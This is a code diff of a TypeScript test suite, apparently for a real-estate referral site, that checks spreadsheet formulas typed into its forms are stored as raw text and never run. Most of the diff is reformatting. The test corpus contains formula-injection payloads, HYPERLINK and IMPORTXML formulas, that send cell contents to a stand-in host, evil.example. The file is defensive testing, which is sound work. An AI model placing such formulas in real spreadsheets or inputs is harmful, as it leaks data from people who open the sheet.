@@ -18,7 +18,7 @@ import { insertAgent, postForm, testContext } from "../support/services";
  */
 const CORPUS = [
   '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
-  "=IMPORTXML(CONCAT(\"https://evil.example/?\",B2),\"//a\")",
+  '=IMPORTXML(CONCAT("https://evil.example/?",B2),"//a")',
   "+1+2",
   "-2+3",
   "@SUM(A1:A9)",
@@ -60,7 +60,13 @@ function cell(tab: string, id: string, header: string): string {
 describe("formula corpus typed into every form is stored as typed (RAW), never run", { timeout: 60_000 }, () => {
   it("contact form", async () => {
     for (let index = 0; index < CORPUS.length; index += 1) {
-      const fields = { name: pick(index), email: "visitor@example.com", category: "general", subject: pick(index + 1), message: pick(index + 2) };
+      const fields = {
+        name: pick(index),
+        email: "visitor@example.com",
+        category: "general",
+        subject: pick(index + 1),
+        message: pick(index + 2),
+      };
       const answer = await outcome(() => contactAction({ request: postForm("/contact", fields), context, params: {} }));
       expect((answer as Response).status, JSON.stringify(fields)).toBe(302);
     }
@@ -76,23 +82,43 @@ describe("formula corpus typed into every form is stored as typed (RAW), never r
   it("posting a request, responding to it and messaging its poster", async () => {
     const cookie = await sessionCookie(context, poster);
     const fields = {
-      requestType: "referral", title: pick(0), location: pick(2), state: "TX", specialty: "Residential", priceRange: "$200k - $400k",
-      clientType: "buyer", timeline: "1month", contactPreference: "email", description: pick(1),
+      requestType: "referral",
+      title: pick(0),
+      location: pick(2),
+      state: "TX",
+      specialty: "Residential",
+      priceRange: "$200k - $400k",
+      clientType: "buyer",
+      timeline: "1month",
+      contactPreference: "email",
+      description: pick(1),
     };
     const posted = await outcome(() => postRequestAction({ request: post("/post-request", cookie, fields), context, params: {} }));
     expect((posted as Response).status, JSON.stringify(posted)).toBe(302);
     const request = context.services.store.requests.all().find((row) => row.agentEmail === poster.email);
     expect(request).toBeDefined();
     const id = request?.id ?? "";
-    expect([cell("Requests", id, "title"), cell("Requests", id, "location"), cell("Requests", id, "description")]).toEqual([pick(0), pick(2), pick(1)]);
+    expect([cell("Requests", id, "title"), cell("Requests", id, "location"), cell("Requests", id, "description")]).toEqual([
+      pick(0),
+      pick(2),
+      pick(1),
+    ]);
 
     const responderCookie = await sessionCookie(context, responder);
     const target = await insertRequest(context, poster);
-    await outcome(() => respondAction({ request: post(`/referral-requests/${target.id}/respond`, responderCookie, { message: pick(4) }), context, params: { id: target.id } }));
+    await outcome(() =>
+      respondAction({
+        request: post(`/referral-requests/${target.id}/respond`, responderCookie, { message: pick(4) }),
+        context,
+        params: { id: target.id },
+      }),
+    );
     const response = context.services.store.responses.all().find((row) => row.requestId === target.id);
     expect(cell("Responses", response?.id ?? "", "message")).toBe(pick(4));
 
-    await outcome(() => messagesAction({ request: post(`/messages?to=${poster.id}`, responderCookie, { text: pick(5) }), context, params: {} }));
+    await outcome(() =>
+      messagesAction({ request: post(`/messages?to=${poster.id}`, responderCookie, { text: pick(5) }), context, params: {} }),
+    );
     const message = context.services.store.messages.all().find((row) => row.text === pick(5));
     expect(cell("Messages", message?.id ?? "", "text")).toBe(pick(5));
   });
@@ -102,6 +128,11 @@ describe("formula corpus typed into every form is stored as typed (RAW), never r
     const fields = { fullName: pick(6), city: pick(7), state: "TX", brokerage: pick(8), bio: pick(0), password: "correct horse battery" };
     const saved = await outcome(() => editProfileAction({ request: post("/edit-profile", cookie, fields), context, params: {} }));
     expect((saved as Response).status).toBe(302);
-    expect([cell("Agents", responder.id, "fullName"), cell("Agents", responder.id, "city"), cell("Agents", responder.id, "brokerage"), cell("Agents", responder.id, "bio")]).toEqual([pick(6), pick(7), pick(8), pick(0)]);
+    expect([
+      cell("Agents", responder.id, "fullName"),
+      cell("Agents", responder.id, "city"),
+      cell("Agents", responder.id, "brokerage"),
+      cell("Agents", responder.id, "bio"),
+    ]).toEqual([pick(6), pick(7), pick(8), pick(0)]);
   });
 });
